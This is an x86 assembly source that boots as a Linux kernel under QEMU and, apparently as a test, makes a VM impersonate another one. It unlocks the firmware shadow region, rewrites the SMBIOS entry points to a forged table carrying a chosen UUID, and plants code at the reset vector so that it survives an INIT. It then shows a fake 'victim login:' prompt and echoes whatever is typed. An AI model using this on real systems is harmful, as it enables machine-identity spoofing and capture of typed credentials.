/*
 * Root of a user VM that wants to be another one, as a Linux kernel for QEMU's -kernel: it runs in real mode, and only its
 * setup code does. On a '!' from COM1 it points its SMBIOS entry point to a table of its own, with the UUID that the test
 * has put behind "UUID:", puts code where the firmware begins after a reset, and sends itself an INIT. No firmware
 * runs again. From then on it says what the other one's console would say, and shows in brackets what is typed.
 *
 *   as --32 takeover.S -o takeover.o && ld -m elf_i386 -Ttext 0 --oformat binary takeover.o -o takeover
 */
        .code16
        .text
        .globl _start

        .set    COM1, 0x3f8
        .set    LSR, 5
        .set    FLAT, 8                 /* selector of 4 GiB from 0 on */
        .set    TABLE, 0x8000           /* where the table goes */
        .set    RESET, 0xfe05b          /* where the reset vector jumps to */

/* Prints DS:SI up to a zero. There are two: what runs after the INIT has been moved. */
        .macro  printer name
\name:  lodsb
        test    %al, %al
        jz      2f
        mov     %al, %ah
        mov     $COM1 + LSR, %dx
1:      in      (%dx), %al
        test    $0x20, %al
        jz      1b
        mov     %ah, %al
        mov     $COM1, %dx
        out     %al, (%dx)
        jmp     \name
2:      ret
        .endm

        /* The header, as in Linux's Documentation/arch/x86/boot.rst. DS is where this is. */
_start: .org    0x1f1
        .byte   3                       /* sectors of setup code */
        .org    0x1fe
        .word   0xaa55
        .org    0x200
        jmp     begin
        .ascii  "HdrS"
        .word   0x0202                  /* protocol */
        .org    0x211
        .byte   1                       /* loaded high */
        .org    0x230

        /* Linux and the firmware have CS at 0x200 of this: only relative jumps. */
begin:  cli
        mov     $ready, %si
        call    print
1:      mov     $COM1 + LSR, %dx
        in      (%dx), %al
        test    $1, %al
        jz      1b
        mov     $COM1, %dx
        in      (%dx), %al
        cmp     $'!', %al
        jne     1b

        /* ES: all memory, while nobody loads it again. */
        xor     %eax, %eax
        mov     %ds, %ax
        shl     $4, %eax
        add     $gdt, %eax
        mov     %eax, gdtr + 2
        lgdtl   gdtr
        mov     %cr0, %eax
        or      $1, %al
        mov     %eax, %cr0
        mov     $FLAT, %bx
        mov     %bx, %es
        and     $~1, %al
        mov     %eax, %cr0

        /* 0xf0000 to 0xfffff: memory, for reading and writing. i440FX: PAM0 at 0x59; Q35: at 0x90. */
        mov     $0x80000000, %eax
        mov     $0xcf8, %dx
        out     %eax, (%dx)
        mov     $0xcfc, %dx
        in      (%dx), %eax
        mov     $0x80000058, %ebx
        mov     $0xcfd, %cx
        cmp     $0x12378086, %eax
        je      2f
        mov     $0x80000090, %ebx
        mov     $0xcfc, %cx
2:      mov     %ebx, %eax
        mov     $0xcf8, %dx
        out     %eax, (%dx)
        mov     %cx, %dx
        mov     $0x30, %al
        out     %al, (%dx)

        /* Every entry point names the new table. */
        mov     $0xf0000, %ebx
3:      cmpl    $0x5f4d535f, %es:(%ebx)         /* _SM_ */
        jne     4f
        movw    $64, %es:0x16(%ebx)
        movl    $TABLE, %es:0x18(%ebx)
4:      cmpl    $0x334d535f, %es:(%ebx)         /* _SM3 */
        jne     5f
        movl    $TABLE, %es:0x10(%ebx)
5:      add     $16, %ebx
        cmp     $0x100000, %ebx
        jb      3b

        mov     $table, %si
        mov     $TABLE, %edi
        mov     $table_end - table, %cx
        call    copy
        mov     $other, %si
        mov     $RESET, %edi
        mov     $other_end - other, %cx
        call    copy

        /* INIT for processor 0. */
        mov     $0xfee00300, %ebx
        movl    $0, %es:0x10(%ebx)
        movl    $0x4500, %es:(%ebx)
6:      jmp     6b

/* DS:SI to EDI, CX bytes. */
copy:   lodsb
        mov     %al, %es:(%edi)
        inc     %edi
        dec     %cx
        jnz     copy
        ret

        printer print

/* What runs after the INIT, at F000:E05B. */
other:  xor     %ax, %ax
        mov     %ax, %ss
        mov     $0x7000, %sp
        mov     %cs, %ax
        mov     %ax, %ds
        mov     $(RESET & 0xffff) + (prompt - other), %si
        call    other_print
1:      mov     $COM1 + LSR, %dx
        in      (%dx), %al
        test    $1, %al
        jz      1b
        mov     $COM1, %dx
        in      (%dx), %al
        mov     %al, (RESET & 0xffff) + (typed - other)
        mov     $(RESET & 0xffff) + (bracket - other), %si
        call    other_print
        jmp     1b
        printer other_print
prompt: .asciz  "\r\nvictim login: "
bracket:.ascii  "<"
typed:  .ascii  "?"
        .asciz  ">"
other_end:

ready:  .asciz  "\r\nready to take over\r\n"

/* A system information structure (SMBIOS 7.2), and the end of the table. */
table:  .byte   1, 0x1b, 0, 1, 0, 0, 0, 0
        .ascii  "UUID:0123456789a"
        .byte   6, 0, 0
        .byte   0, 0
        .byte   127, 4, 0, 2, 0, 0
table_end:

        .balign 8
gdt:    .quad   0
        .quad   0x008f92000000ffff
gdtr:   .word   gdtr - gdt - 1
        .long   0
        .org    0x800
        /* The protected-mode kernel. */
        hlt
        .org    0xa00
